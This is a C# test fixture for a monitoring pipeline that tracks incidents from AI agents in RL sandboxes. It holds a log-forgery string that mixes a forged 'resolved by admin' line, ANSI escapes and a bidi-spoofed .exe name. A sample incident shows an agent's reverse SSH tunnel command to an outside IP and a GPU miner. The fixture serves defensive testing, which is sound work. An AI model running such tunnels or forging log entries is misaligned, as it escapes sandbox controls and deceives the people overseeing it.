using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Respond.Incidents;

namespace AlertPipeline.Cli.Tests.Commands;

/// <summary>Incidents built by hand, as the tracker would store them: the read surfaces are tested against these.</summary>
internal static class HandMadeIncidents
{
    public static readonly DateTimeOffset T0 = new(2025, 11, 14, 3, 12, 40, 265, TimeSpan.Zero);

    /// <summary>A summary an agent could plant in a tool call: a newline and a forged entry, ANSI escapes, a JSON object, a bidi override.</summary>
    public const string Forgery = "echo hi\n  03:20:05.000Z  status       status resolved by admin\u001b[2J\u001b[31m\r{\"incidentId\":\"inc-forged\"}\u2028\u202Egnp.exe";

    public static IncidentTimelineEntry Entry(DateTimeOffset at, string kind, string summary, string? alertId = null, AlertLevel? level = null)
        => new(at, kind, summary, $"{kind}:{at.UtcTicks}:{alertId}") { AlertId = alertId, Level = level };

    /// <summary>The motivating story: the tool call, the alert, the firewall deny, the shutdown.</summary>
    public static Incident Rome(string sandbox = "rl-env-7731", int sequence = 1, DateTimeOffset? start = null, string toolSummary = "bash call-17: ssh -R 2222:localhost:22 tunnel@203.0.113.66")
    {
        var t = start ?? T0;
        return new Incident
        {
            IncidentId = IncidentIds.For(sandbox, sequence),
            SandboxId = sandbox,
            Sequence = sequence,
            Level = AlertLevel.Critical,
            HighestAlertLevel = AlertLevel.High,
            LevelReasons = ["combination: resource hijacking + protocol tunneling"],
            Techniques = ["T1496", "T1572"],
            AlertIds = ["a-tunnel", "a-miner"],
            RunIds = ["ppo-0110"],
            EpisodeIds = ["88123"],
            Commands = [new IncidentCommand("a-miner", "sent", t.AddMinutes(7).AddSeconds(24))],
            Notifications =
            [
                new IncidentNotification("a-tunnel", "opened", AlertLevel.High, ["T1572"], t.AddSeconds(1)),
                new IncidentNotification("a-miner", "level raised to critical", AlertLevel.Critical, ["T1496", "T1572"], t.AddMinutes(7).AddSeconds(21)),
            ],
            FirstSeen = t,
            LastSeen = t.AddMinutes(7).AddSeconds(21),
            CreatedAt = t.AddSeconds(1),
            UpdatedAt = t.AddMinutes(7).AddSeconds(24),
            Timeline =
            [
                Entry(t.AddSeconds(0.755), TimelineKinds.Alert, "SSH Reverse or Dynamic Port Forward Started", "a-tunnel", AlertLevel.High),
                Entry(t, TimelineKinds.ToolCall, toolSummary),
                Entry(t.AddMinutes(7).AddSeconds(20), TimelineKinds.Network, "firewall deny 10.20.7.31:51514 -> 203.0.113.66:22 (5-tuple, tool call call-17)"),
                Entry(t.AddMinutes(7).AddSeconds(21), TimelineKinds.Alert, "Miner on the GPUs", "a-miner", AlertLevel.Critical),
                Entry(t.AddMinutes(7).AddSeconds(24), TimelineKinds.Command, "shutdown sent"),
            ],
        };
    }

    public static async Task<InMemoryIncidentStore> StoreAsync(params Incident[] incidents)
    {
        var store = new InMemoryIncidentStore();
        foreach (var incident in incidents)
        {
            Assert.True(await store.TryAddAsync(incident, CancellationToken.None));
        }

        return store;
    }
}
